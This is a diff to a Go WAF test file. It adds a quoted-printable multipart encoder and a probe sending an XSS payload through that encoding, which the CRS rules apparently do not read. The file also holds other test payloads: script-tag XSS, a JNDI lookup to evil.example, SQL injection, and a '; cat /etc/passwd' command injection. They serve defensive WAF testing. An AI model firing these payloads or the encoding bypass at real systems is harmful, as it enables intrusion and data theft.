@@ -44,6 +44,31 @@ func multipartFile(field, disposition, contentType, contents string) (string, st
 	return b.String(), mw.FormDataContentType()
 }
 
+// multipartFileQP is multipartFile with the contents sent
+// quoted-printable (Content-Transfer-Encoding, which Go's multipart
+// reader decodes), every byte but letters and digits encoded (=27 for ').
+func multipartFileQP(field, disposition, contents string) (string, string) {
+	var enc strings.Builder
+	for i := 0; i < len(contents); i++ {
+		c := contents[i]
+		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' {
+			enc.WriteByte(c)
+			continue
+		}
+		fmt.Fprintf(&enc, "=%02X", c)
+	}
+	var b bytes.Buffer
+	mw := multipart.NewWriter(&b)
+	h := textproto.MIMEHeader{}
+	h.Set("Content-Disposition", fmt.Sprintf(`form-data; name=%q; %s`, field, disposition))
+	h.Set("Content-Type", "text/csv")
+	h.Set("Content-Transfer-Encoding", "quoted-printable")
+	pw, _ := mw.CreatePart(h)
+	_, _ = pw.Write([]byte(enc.String()))
+	_ = mw.Close()
+	return b.String(), mw.FormDataContentType()
+}
+
 // placesAttackTable is what the WAF must refuse in the places the CRS at
 // paranoia 1 does not read (docs/waf.md, "Places the CRS does not
 // read"): crsCatches are refused by the CRS alone too (kept to show which
@@ -54,6 +79,7 @@ func placesAttackTable() (crsCatches, crsMisses []probe) {
 	svg, svgType := multipartFile("avatar", `filename="me.svg"`, "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>`)
 	star, starType := multipartFile("doc", `filename*=UTF-8''notes%20%C3%A9t%C3%A9.txt`, "text/plain", "see ${jndi:ldap://evil.example/a} and 1' OR '1'='1' --")
 	octet, octetType := multipartFile("data", `filename="data.bin"`, "application/octet-stream", "127.0.0.1; cat /etc/passwd")
+	qp, qpType := multipartFileQP("page", `filename="page.html"`, "<p>hi</p><script>alert(document.domain)</script>\n")
 	crsCatches = []probe{
 		{name: "XSS in X-Forwarded-Host", method: "GET", path: "/", header: http.Header{"X-Forwarded-Host": {`"><script>alert(document.domain)</script>`}}},
 		{name: "XSS in a custom header", method: "GET", path: "/", header: http.Header{"X-Display-Name": {`"><img src=x onerror=alert(document.domain)>`}}},
@@ -78,6 +104,7 @@ func placesAttackTable() (crsCatches, crsMisses []probe) {
 		{name: "SQLi in a text file part (CSV)", method: "POST", path: "/upload", contentType: csvType, body: csv},
 		{name: "XSS in an SVG file part", method: "POST", path: "/upload", contentType: svgType, body: svg},
 		{name: "attacks in a part named with filename*= only", method: "POST", path: "/upload", contentType: starType, body: star},
+		{name: "XSS in a text file part sent quoted-printable", method: "POST", path: "/upload", contentType: qpType, body: qp},
 		{name: "RCE in a text file part declared octet-stream", method: "POST", path: "/upload", contentType: octetType, body: octet},
 	}
 	return crsCatches, crsMisses
